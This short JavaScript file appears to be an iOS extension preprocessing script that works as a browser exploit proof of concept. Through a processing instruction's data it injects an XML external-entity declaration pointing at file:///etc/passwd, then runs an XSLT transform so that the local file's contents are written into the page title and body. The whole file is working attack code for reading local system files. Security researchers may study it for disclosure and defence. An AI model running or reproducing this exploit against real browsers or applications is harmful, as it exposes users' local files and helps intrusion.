var ExtensionPreprocessingJS = { run(a) {
const parsed = (text) => new DOMParser().parseFromString(text, 'text/xml');
const processor = new XSLTProcessor();
processor.importStylesheet(parsed(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><r><xsl:value-of select='.'/></r></xsl:template></xsl:stylesheet>`));
const d = document.implementation.createDocument(null, 'a');
const p = d.createProcessingInstruction('x', 'y');
p.data = '?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]><x>&s;</x><?y';
d.documentElement.before(p);
const result = processor.transformToDocument(d);
document.title = result?.documentElement?.textContent ?? '';
document.body.append(document.title);
a.completionFunction({});
} };
